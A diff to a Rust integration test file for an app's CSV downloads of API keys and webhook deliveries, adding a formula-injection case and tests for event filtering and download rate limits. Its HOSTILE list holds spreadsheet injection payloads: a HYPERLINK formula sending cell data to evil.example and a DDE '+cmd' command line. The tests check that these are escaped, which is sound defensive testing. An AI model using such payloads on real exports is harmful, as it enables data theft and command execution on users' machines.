@@ -2,20 +2,22 @@
 
 use std::time::Duration;
 
-use keybell_core::Role;
+use keybell_app::downloads::DOWNLOADS_PER_WORKSPACE_MAX;
+use keybell_core::{Role, WorkspaceId};
 use keybell_testkit::app::{Answer, TestApp};
 use serde_json::{Value, json};
 
 use super::browser::Browser;
 
 /// What somebody may call a thing: text that spreadsheets, CSV or a reader could take for something else.
-const HOSTILE: [&str; 8] = [
+const HOSTILE: [&str; 9] = [
     "=HYPERLINK(\"https://evil.example/?\"&A1)",
     "+cmd|' /C calc'!A0",
     "-2+3",
     "@SUM(1)",
     "＝1+1",
     "a,\"b\";c",
+    "a;=1+1;b",
     "\u{202e}fdp.exe",
     "🔑 été",
 ];
@@ -83,14 +85,15 @@ async fn keys_are_downloaded_as_they_are_listed_and_no_name_is_a_formula() {
     begins_no_formula(&read);
     let names = column(&read, "name");
     let mut expected = HOSTILE.map(|name| {
-        if name.starts_with(['=', '+', '-', '@', '＝']) { format!("'{name}") } else { name.to_owned() }
+        let begins = name.starts_with(['=', '+', '-', '@', '＝']);
+        if begins { format!("'{name}") } else { name.replace(";=", ";'=") }
     });
     expected.reverse();
     assert_eq!(names, expected, "newest first, each as it was written");
-    let description = &column(&read, "description")[7];
+    let description = &column(&read, "description")[8];
     assert_eq!(description, &format!("'{}\nand a second line", HOSTILE[0]));
     assert_eq!(column(&read, "allowed_networks")[0], "203.0.113.0/24 2001:db8::/32");
-    assert_eq!(column(&read, "created_at")[7], "2026-11-23T12:00:01.000Z");
+    assert_eq!(column(&read, "created_at")[8], "2026-11-23T12:00:01.000Z");
     assert_eq!(column(&read, "expires_at")[0], "2027-01-01T00:00:00.000Z");
     assert!(secrets.iter().all(|secret| !file.answer.text().contains(secret.as_str())));
 }
@@ -169,6 +172,52 @@ async fn deliveries_are_downloaded_without_what_they_carried() {
     assert_eq!((&*column(&read, "status")[0], &*column(&read, "attempts_made")[0]), ("pending", "0"));
     assert!(!file.answer.text().contains("confidential"));
     assert_eq!(rows(&browser.open(&format!("{list}.csv?status=failed")).await.answer, "deliveries").len(), 1);
+}
+
+#[tokio::test]
+async fn what_lies_further_back_than_one_look_is_in_the_file_too() {
+    let app = TestApp::start().await;
+    let (workspace, mut browser) = at_home(&app).await;
+    for name in ["portfolio.updated", "portfolio.closed"] {
+        app.operator().post("/v1/event-types", json!({ "name": name })).await.done(201);
+    }
+    let path = format!("/v1/workspaces/{workspace}");
+    let webhook = json!({ "name": "Warehouse", "url": "http://127.0.0.1:9/", "events": ["*"] });
+    let webhook = app.operator().post(&format!("{path}/webhooks"), webhook).await.done(201);
+    let rare = json!({ "type": "portfolio.closed", "data": {}, "id": "rare" });
+    app.operator().post(&format!("{path}/events"), rare).await.done(202);
+    // More than are looked at at once among those of one webhook.
+    let event = json!({ "workspace": workspace, "type": "portfolio.updated", "data": {} });
+    for _ in 0..2 {
+        app.clock.advance(Duration::from_secs(1));
+        app.operator().post("/v1/events/batch", json!({ "events": vec![&event; 1_000] })).await.done(202);
+    }
+    let filter = format!("webhook_id={}&event_type=portfolio.closed", webhook["id"].as_str().expect("an id"));
+    let list = format!("/w/{workspace}/settings/advanced/developer/deliveries");
+    let page = browser.open(&format!("{list}?{filter}")).await.is(200);
+    assert!(page.text().contains("No delivery since"), "one look finds none: {}", page.text());
+    let file = browser.open(&page.link("Download CSV")).await;
+    assert_eq!(column(&rows(&file.answer, "deliveries"), "event_id"), ["rare"]);
+}
+
+#[tokio::test]
+async fn a_download_past_those_that_may_be_at_once_is_told_when_to_come_again() {
+    let app = TestApp::start().await;
+    let (workspace, mut browser) = at_home(&app).await;
+    let file = format!("/w/{workspace}/settings/advanced/developer/api-keys.csv");
+    for _ in 0..=DOWNLOADS_PER_WORKSPACE_MAX {
+        browser.open(&file).await.is(200);
+    }
+    let workspace = WorkspaceId::parse(&workspace).expect("it is an id");
+    let mut begun: Vec<_> =
+        (1..DOWNLOADS_PER_WORKSPACE_MAX).map(|_| app.app.begin_download(workspace)).collect();
+    browser.open(&file).await.is(200);
+    begun.push(app.app.begin_download(workspace));
+    let full = browser.open(&file).await.is(429);
+    assert!(full.text().contains("As many downloads are under way as may be."), "{}", full.text());
+    assert_eq!(full.answer.header("retry-after"), "5");
+    drop(begun);
+    browser.open(&file).await.is(200);
 }
 
 #[tokio::test]
